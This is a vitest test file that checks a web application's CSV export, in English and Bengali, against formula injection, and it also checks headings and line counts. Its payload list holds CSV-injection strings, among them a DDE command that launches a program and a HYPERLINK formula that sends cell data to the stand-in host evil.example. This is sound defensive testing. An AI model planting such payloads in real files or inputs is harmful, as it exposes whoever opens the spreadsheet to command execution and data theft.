import { beforeAll, expect, test } from 'vitest';
import { applicationFields } from '#app/applications/application.ts';
import { fields as rows } from '#app/applications/fields.ts';
import { oneDatabase } from '#tests/support/each-database.ts';
import { hostileStrings, textOf } from '#tests/support/hostile-strings.ts';
import { formulasIn } from '#tests/support/spreadsheets.ts';
import { siteOfBlock } from '#tests/support/site-of-block.ts';
import { goodApplication } from '#tests/support/test-site.ts';

/** Texts that put a formula where a program that reads the file begins a line or a cell. */
const payloads = [
  ...[...'=+-@＝＋－＠\t\r\n'].map((sign) => `${sign}1+1`),
  ...['\n', '\r', '\r\n', '\u2028', '\v', '\f', '\u0085', ';', '\t', ',', '"', '\n"', ';"', '","']
    .flatMap((end) => ['=', ' =', '"=', '\u200b=', '\ufeff@', '＝'].map((sign) => end + sign))
    .map((end) => `Rahim${end}cmd|' /C calc'!A0`),
  'Rahim\n=HYPERLINK("https://evil.example/?"&A1;"Open")',
  `x"\n=1+1\n"`,
  `a;b;=1+1;"=2+2`,
  ';;;=1',
  '\n\n+1',
];

oneDatabase(({ url }) => {
  const site = siteOfBlock(url, { settings: { RATE_LIMITS: 'off' } });
  let csv: string;
  let bengali: string;
  const taken: string[] = [];
  beforeAll(async () => {
    for (const text of [...hostileStrings.map(textOf), ...payloads]) {
      const fields = applicationFields.filter((field) => field !== 'birth' && field !== 'email');
      const hostile = fields.map((field) => [field, text.slice(0, rows[field].maxLength)]);
      const json = { ...goodApplication, ...Object.fromEntries(hostile) };
      const answer = await site.call('POST', '/api/application', { json });
      if (answer.status === 201) taken.push(text);
    }
    const cookie = await site.signIn();
    const read = async (path: string) => {
      const answer = await site.call('GET', path, { cookie });
      return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer());
    };
    csv = await read('/api/application/export');
    bengali = await read('/api/application/export?language=bn');
  });

  test('no program that reads an export of hostile applications calculates a cell of it', () => {
    expect(taken.length).toBeGreaterThan(payloads.length + 50);
    expect(formulasIn(csv)).toEqual([]);
    expect(formulasIn(bengali)).toEqual([]);
  });

  test('people read headings and words in the language of their page, programs codes', () => {
    const heads = (file: string) => file.split('\r\n')[0]!.split('","');
    expect(heads(csv)).toContain('State');
    expect(csv).toMatch(/"waiting",.*"website"/);
    expect(heads(bengali)).toHaveLength(heads(csv).length);
    expect(bengali.startsWith('\ufeff"রসিদ নম্বর","এসেছে (ঢাকার সময়)","অবস্থা"')).toBe(true);
    expect(bengali).toMatch(/"অপেক্ষায়",.*"নতুন আবেদন",.*"ওয়েবসাইট"/);
    expect(bengali).not.toMatch(/"(?:waiting|website|New application)"/);
  });

  test('it begins with the mark of UTF-8 and its headings, and has a line for each application', () => {
    expect(csv.startsWith('\ufeff"Receipt number","Sent (Dhaka)"')).toBe(true);
    const records = csv.split('\r\n');
    expect(records).toHaveLength(taken.length + 2);
    expect(records.at(-1)).toBe('');
  });
});
